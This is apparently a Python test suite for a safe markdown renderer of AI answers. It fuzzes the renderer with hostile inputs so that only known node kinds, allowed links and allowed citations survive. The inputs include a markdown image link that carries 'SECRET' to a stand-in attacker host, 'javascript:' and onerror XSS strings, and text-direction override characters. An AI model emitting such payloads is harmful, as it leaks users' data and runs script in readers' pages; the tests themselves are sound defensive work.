"""The safe tree: what an answer may become on the page, whatever is written in it."""

from __future__ import annotations

import unicodedata
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from core.ui.answer.markdown import tree
from core.ui.answer.markdown_nodes import Node
from core.ui.shell.escaping import escape_markdown, escape_markdown_except_code, printable

KINDS = {
    "p", "quote", "li", "strong", "em", "s", "thead", "tbody", "tr", "th", "td", "h", "ul", "ol",
    "table", "claim", "code", "span", "image", "cite", "verdict", "br", "hr", "link", "tight",
    "keep",
}  # fmt: skip


def walk(nodes: list[Node]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    for node in nodes:
        if isinstance(node, dict):
            found.append(node)
            found += walk(node.get("c", []))
    return found


def words(nodes: list[Node]) -> str:
    parts = []
    for node in nodes:
        if isinstance(node, str):
            parts.append(node)
        else:
            parts.append(node.get("text", "") + words(node.get("c", [])))
            parts.append(f"[{node['n']}]" if node["t"] == "cite" else "")
    return "".join(parts)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a **b** *c* ~~d~~", ["a ", {"t": "strong", "c": ["b"]}, " ", {"t": "em", "c": ["c"]},
                               " ", {"t": "s", "c": ["d"]}]),
        ("one\ntwo", ["one two"]),
        ("one  \ntwo", ["one", {"t": "br"}, "two"]),
        ("`x < 1`", [{"t": "span", "text": "x < 1"}]),
        ("&lt;b&gt; &amp; \\*", ["<b> & *"]),
    ],
)  # fmt: skip
def test_inline_marks(text: str, expected: list[Node]) -> None:
    assert tree(text) == [{"t": "p", "c": expected}]


def test_blocks() -> None:
    text = "# T\n\n1. a\n2. b\n\n> q\n\n---\n\n```py\nx = 1\n```\n\n| h |\n|---|\n| c |"
    kinds = [node["t"] for node in tree(text) if isinstance(node, dict)]
    assert kinds == ["h", "ol", "quote", "hr", "code", "table"]


def test_marks_stay_with_the_word_before_and_the_stop_behind() -> None:
    cite = {"t": "cite", "n": 1}
    other = {"t": "cite", "n": 2}
    assert tree("It is so [1][2]. Next", {1, 2}) == [
        {"t": "p", "c": ["It is ", {"t": "keep", "c": ["so ", cite, other, "."]}, " Next"]}
    ]


def test_marks_in_code_stay_text() -> None:
    nodes = tree("`a[1]`\n\n```\nb[1]\n```", {1})
    assert [node["t"] for node in walk(nodes)] == ["p", "span", "code"]


def test_claims_wrap_their_sentence_through_markup() -> None:
    text = "Of **all** that [1]. Next."
    nodes = tree(text, {1}, claims={4: (0, 20)})
    claimed = [node for node in walk(nodes) if node["t"] == "claim"]
    assert {node["k"] for node in claimed} == {4}
    assert words(claimed) == "Of all that [1]."
    assert [node["k"] for node in walk(nodes) if node["t"] == "verdict"] == [4]


@pytest.mark.parametrize("start", ["- ", "1. ", "# ", "> ", "- 1. "])
def test_claims_at_the_start_of_a_block_do_not_break_it(start: str) -> None:
    text = f"{start}It is so."
    with_claim = tree(text, claims={0: (0, len(text))})
    kinds = [node["t"] for node in walk(with_claim)]
    assert [kind for kind in kinds if kind not in ("claim", "verdict")] == [
        node["t"] for node in walk(tree(text))
    ]
    assert "claim" in kinds


SENTENCES = st.lists(
    st.sampled_from(
        ["It is so [1].", "The **sum** is 5.", "See `x[0]` here.", "“Quoted” (p. 3).", "- A point.",
         "$5 and $6.", "<b>no</b>.", "1. First.", "Say *this* [2]!"]
    ),
    min_size=1,
    max_size=6,
)  # fmt: skip


@settings(deadline=None, derandomize=True)
@given(SENTENCES, st.sampled_from([" ", "\n", "\n\n"]))
def test_claims_change_nothing_but_their_wrapping(sentences: list[str], between: str) -> None:
    text = between.join(sentences)
    claims, at = {}, 0
    for index, sentence in enumerate(sentences):
        claims[index] = (at, at + len(sentence))
        at += len(sentence) + len(between)
    assert words(tree(text, {1, 2}, claims=claims)) == words(tree(text, {1, 2}))


HOSTILE = st.lists(
    st.sampled_from(
        ["![a](http://e.vil/p?q=", "SECRET", ")", "[x](", "http://e.vil", "javascript:alert(1)",
         "<img src=x onerror=alert(1)>", "<", ">", "[r]: http://e.vil\n", "![a][r]", "[1]", "\n\n",
         "`", "```\n", "**", "https://ok.org/a", "](", "!\u200b[", "\ue000", "\uf000",
         "|-|\n", "&#x3c;"]
    ),
    max_size=25,
).map("".join)  # fmt: skip


@given(st.one_of(HOSTILE, st.text(max_size=300)))
@settings(max_examples=300, deadline=None, derandomize=True)
@example("![a](http://e.vil/p?q=SECRET)")
def test_nothing_gets_through_but_known_kinds(text: str) -> None:
    nodes = walk(tree(text, {1}, {"https://ok.org/a"}))
    assert {node["t"] for node in nodes} <= KINDS
    assert {node["href"] for node in nodes if node["t"] == "link"} <= {"https://ok.org/a"}
    assert {node["n"] for node in nodes if node["t"] == "cite"} <= {1}


def test_a_text_beyond_all_measure_is_shown_without_parsing() -> None:
    text = "[" * 300_000
    assert tree(text) == [{"t": "p", "c": [text]}]


def test_deep_nesting_ends() -> None:
    assert tree(">" * 5_000 + " x")
    assert tree("*a " * 5_000)


@pytest.mark.parametrize(
    "text",
    ["a_b*c", "$x$", "[a](http://e.vil)", "<script>", "# t", "1. x", "~~s~~", "`c`", "a|b"],
)
def test_labels_escape_every_sign(text: str) -> None:
    assert escape_markdown(text).replace("\\", "").replace("\u2060", "") == text.replace("\\", "")
    for sign in "*_$[]<>#`~|":
        assert escape_markdown(text).count(sign) == escape_markdown(text).count(f"\\{sign}")


@pytest.mark.parametrize("text", [":tada:", ":material/home:", "https://e.vil", "me@e.vil"])
def test_labels_break_what_is_recognised_without_signs(text: str) -> None:
    assert "\u2060" in escape_markdown(text)


def test_labels_are_one_line() -> None:
    assert escape_markdown("a\n# b\t c") == "a \\# b c"
    assert escape_markdown_except_code("Run `pip install -r x`!") == "Run `pip install -r x`\\!"
    assert escape_markdown_except_code("one ` only") == "one \\` only"


def test_what_forges_reading_is_dropped() -> None:
    assert printable("exe.\u202efdp\x00\x1b[31m") == "exe.fdp[31m"
    assert words(tree("a\u202eb\ud800")) == "ab"


def test_of_all_characters_those_that_control_or_turn_are_not_shown() -> None:
    every = "".join(map(chr, range(0x110000)))
    gone = set(every) - set(printable(every))
    turning = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    control = {sign for sign in every if unicodedata.category(sign) in ("Cc", "Cs")}
    assert gone == (control - set("\n\t")) | turning


def test_the_words_that_answer_are_set_off() -> None:
    text = "It opened in 1874 [1]."
    start = text.index("1874")
    (paragraph,) = tree(text, {1}, highlights=[(start, start + 4)])
    assert isinstance(paragraph, dict)
    assert paragraph["c"][1] == {"t": "mark", "c": ["1874"]}


def test_a_highlight_ends_with_its_block() -> None:
    nodes = tree("One two.\n\nThree four.", highlights=[(4, 12)])
    assert "mark" not in str(nodes)
    nodes = tree("| a | b |\n| --- | --- |\n| 1 | 22 |", highlights=[(30, 32)])
    assert "{'t': 'mark', 'c': ['22']}" in str(nodes)


@pytest.mark.parametrize(
    ("text", "shown"),
    [(r"Sales of \$5 million.", "Sales of $5 million."), (r"A \\\*5.", r"A \*5.")],
)
def test_a_border_does_not_part_a_sign_from_its_backslash(text: str, shown: str) -> None:
    start = text.index("5") - 1
    assert words(tree(text, highlights=[(start, start + 2)])) == shown
    assert words(tree(text, claims={0: (start, len(text))})) == shown
    assert text[start : start + 2] in str(tree(text, highlights=[(start, start + 2)]))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (r"Born in Linz,\[1\] it says.\[2\] [1]", "Born in Linz,[1] it says.[2] 1"),
        (r"So\[\[1\]\] it is. [1]", "So[[1]] it is. 1"),
    ],
)
def test_the_notes_of_a_quoted_page_are_no_citations(text: str, shown: str) -> None:
    nodes = tree(text, {1, 2})
    assert str(nodes).count("'cite'") == 1
    assert _said(nodes) == shown


def _said(nodes: list[Any]) -> str:
    return "".join(
        one if isinstance(one, str) else str(one.get("n", "")) + _said(one.get("c", []))
        for one in nodes
    )
